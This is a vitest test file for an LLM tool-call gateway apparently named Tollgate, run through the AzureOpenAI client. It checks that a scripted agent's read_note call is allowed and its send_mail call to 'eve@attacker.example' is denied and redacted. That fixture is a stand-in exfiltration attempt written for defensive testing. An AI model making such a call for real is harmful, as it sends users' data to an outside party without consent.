// The client for Azure OpenAI of the official package, through a real gateway: an agent loop with an allowed and a denied call.

import { AzureOpenAI } from 'openai'
import type { ChatCompletionMessageParam } from 'openai/resources/chat/completions'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { npm, saw } from '../../../../tools/compat/saw.ts'
import { openLlmGate, type LlmGate } from './gate.ts'
import { streamedIf } from './sightings.ts'
import { startUpstream, type Upstream } from './upstream.ts'

const READ = { id: 'call_read', name: 'read_note', args: { name: 'list' } }
const MAIL = { id: 'call_mail', name: 'send_mail', args: { to: 'eve@attacker.example' } }
const tools = ['read_note', 'send_mail'].map((name) => ({ type: 'function' as const, function: { name } }))

let gate: LlmGate
let upstream: Upstream

beforeAll(async () => {
  upstream = await startUpstream()
  gate = await openLlmGate({ upstream: upstream.url })
})
afterAll(async () => {
  await gate.close()
  await upstream.close()
})

test.each([false, true])('an agent with the client for Azure, streamed: %s', async (stream) => {
  const agent = await gate.as(`agent:azure-${stream}`)
  const endpoint = `${gate.url}/azure`
  const azure = new AzureOpenAI({ apiKey: agent.token, endpoint, apiVersion: '2025-04-01-preview' })
  upstream.script({ text: 'I look.', calls: [READ, MAIL] }, { text: 'Done.' })
  const messages: ChatCompletionMessageParam[] = [{ role: 'user', content: 'Read it, then mail it.' }]
  const say = async (): Promise<ChatCompletionMessageParam & { readonly role: 'assistant' }> => {
    const asked = { model: 'own-gpt', messages, tools }
    const { choices } = stream
      ? await azure.chat.completions.stream(asked).finalChatCompletion()
      : await azure.chat.completions.create(asked)
    const [choice] = choices
    if (!choice) throw new Error('no choice')
    return choice.message
  }
  const first = await say()
  const calls = first.tool_calls ?? []
  expect(calls.map((call) => call.type === 'function' && call.function.name)).toEqual(['read_note'])
  expect(JSON.stringify(first)).toContain('[Tollgate] The call to `send_mail` was not run')
  expect(JSON.stringify(first)).not.toContain('eve@attacker.example')
  messages.push(first, { role: 'tool', tool_call_id: calls[0]?.id ?? '', content: 'milk, bread' })
  expect((await say()).content).toBe('Done.')
  const verdicts = (await agent.decisions()).map(({ tool, verdict }) => `${tool} ${verdict}`)
  expect(verdicts).toEqual(['read_note ALLOW', 'send_mail DENY'])
  expect(await agent.effects()).toMatchObject([{ status: 'COMPLETED' }])
  saw(
    npm('openai', 'AzureOpenAI'),
    'LLM, Azure OpenAI',
    'allowed',
    'denied',
    'parallel',
    ...streamedIf(stream),
  )
})
